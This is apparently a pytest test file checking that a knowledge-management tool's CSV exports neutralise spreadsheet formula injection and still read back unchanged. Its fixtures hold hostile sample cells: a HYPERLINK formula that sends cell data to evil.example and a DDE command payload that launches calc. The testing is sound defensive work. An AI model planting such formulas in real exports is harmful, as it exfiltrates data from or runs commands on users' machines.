"""Spreadsheet formula injection: every CSV export neutralises cells a spreadsheet would run,
and reading an exported sheet back (CSV or XLSX) gives the same values, unchanged in meaning."""

import csv
import io

import pytest
from click.testing import CliRunner
from openpyxl import Workbook

from kmsearch.cli import cli
from kmsearch.config import PROJECT_ROOT, Settings
from kmsearch.files.cells import FORMULA_STARTS, spreadsheet_safe, spreadsheet_value
from kmsearch.files.export import to_csv
from kmsearch.files.sheets import read_rows
from kmsearch.files.validation import note_from_fields
from kmsearch.library import Library
from kmsearch.records import CaseNote, Lesson, Partner
from kmsearch.taxonomy import load_taxonomy
from kmsearch.web import create_app
from kmsearch.workflow.uploads import read_upload

TAXONOMY = load_taxonomy(PROJECT_ROOT / "corpus" / "taxonomy.yaml")
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"x")'

HOSTILE = [
    CaseNote(
        id="formula-title", title=HYPERLINK, summary="@SUM(1+1)*cmd|' /C calc'!A0",
        division="trade", partners=[Partner("+Acme", "business"), Partner("=Beta", "ngo")],
        partnership_types=["joint-project"], nexus_areas=["natural-resources"], sdgs=[8],
        start_year=2020, status="active", visibility="public",
        lessons=[Lesson("formula-title", 1, "pitfall", "-5 per cent was the real figure.")],
        body="- a Markdown list that starts the body\n- second item",
    ),
    CaseNote(
        id="formula-minus", title="-5", summary="'=already quoted by its author",
        division="transport", partners=[Partner("@Tabbed Ltd", "business")],
        partnership_types=["data-sharing"], nexus_areas=["mobility-connectivity"], sdgs=[9],
        start_year=2021, status="active", visibility="public",
        body="Plain body.",
    ),
]


def read_back(name: str, data: bytes) -> list[CaseNote]:
    """The notes an upload of ``data`` would become, through the real sheet reader."""
    upload = read_upload(name, data)
    assert not upload.problems, upload.problems
    return [note_from_fields(entry.fields, entry.body, source=entry.source, taxonomy=TAXONOMY,
                             default_evaluation="private-sector-2021")
            for entry in upload.entries]


def assert_safe(text: str) -> list[dict[str, str]]:
    rows = list(csv.DictReader(io.StringIO(text)))
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(FORMULA_STARTS), (column, cell)
    return rows


def test_a_csv_export_starts_no_cell_with_a_formula_character():
    rows = assert_safe(to_csv(HOSTILE))
    assert rows[0]["title"] == "'" + HYPERLINK
    assert rows[0]["summary"].startswith("'@SUM(")
    assert rows[0]["partners"] == "'+Acme (business); =Beta (ngo)"
    assert rows[1]["title"] == "'-5"


def test_an_exported_csv_reads_back_to_the_same_notes():
    assert read_back("export.csv", to_csv(HOSTILE).encode("utf-8")) == HOSTILE


def test_the_register_importer_reads_an_exported_sheet_back_unquoted(tmp_path):
    path = tmp_path / "export.csv"
    path.write_text(to_csv(HOSTILE), encoding="utf-8")
    _, rows = read_rows(path)
    cells = [row.cells for row in rows]
    assert [c["title"] for c in cells] == [HYPERLINK, "-5"]
    assert cells[0]["summary"].startswith("@SUM(") and cells[0]["partners"].startswith("+Acme")


def test_an_exported_sheet_saved_as_xlsx_reads_back_to_the_same_notes():
    rows = list(csv.reader(io.StringIO(to_csv(HOSTILE))))
    book = Workbook()
    for row in rows:
        book.active.append(row)
    out = io.BytesIO()
    book.save(out)
    assert read_back("export.xlsx", out.getvalue()) == HOSTILE


@pytest.mark.parametrize("value", [HYPERLINK, "@SUM(", "+Acme", "-5", "\tx", "\rx", "'", "''=",
                                   "'plain", "plain", "", "a=b"])
def test_the_quote_prefix_is_undone_exactly(value):
    assert spreadsheet_value(spreadsheet_safe(value)) == value


def test_a_quote_a_person_typed_before_ordinary_text_is_kept():
    assert spreadsheet_value("'07 budget") == "'07 budget"


@pytest.fixture
def library(tmp_path):
    settings = Settings.from_env(environ={}, db_path=tmp_path / "k.db",
                                 index_dir=tmp_path / "idx")
    library = Library(settings)
    for note in HOSTILE:
        library.store.save_case(note, author="mallory", origin="web")
    library.store.close()
    return settings


def test_the_api_export_is_neutralised_and_round_trips(library, tmp_path):
    app = create_app({"SETTINGS": library, "SECRET_KEY_FILE": str(tmp_path / "key")})
    response = app.test_client().get("/api/v1/export?format=csv")
    assert response.status_code == 200
    rows = assert_safe(response.get_data(as_text=True))
    assert {row["id"] for row in rows} == {"formula-title", "formula-minus"}
    assert sorted(read_back("api.csv", response.data), key=lambda n: n.id) == \
        sorted(HOSTILE, key=lambda n: n.id)


def test_the_cli_export_is_neutralised(library, tmp_path):
    out = tmp_path / "cases.csv"
    env = {"KMSEARCH_DB": str(library.db_path), "KMSEARCH_INDEX_DIR": str(library.index_dir)}
    result = CliRunner().invoke(cli, ["export", "--format", "csv", "-o", str(out)], env=env)
    assert result.exit_code == 0, result.output
    assert_safe(out.read_text(encoding="utf-8"))
    assert len(read_back("cli.csv", out.read_bytes())) == 2
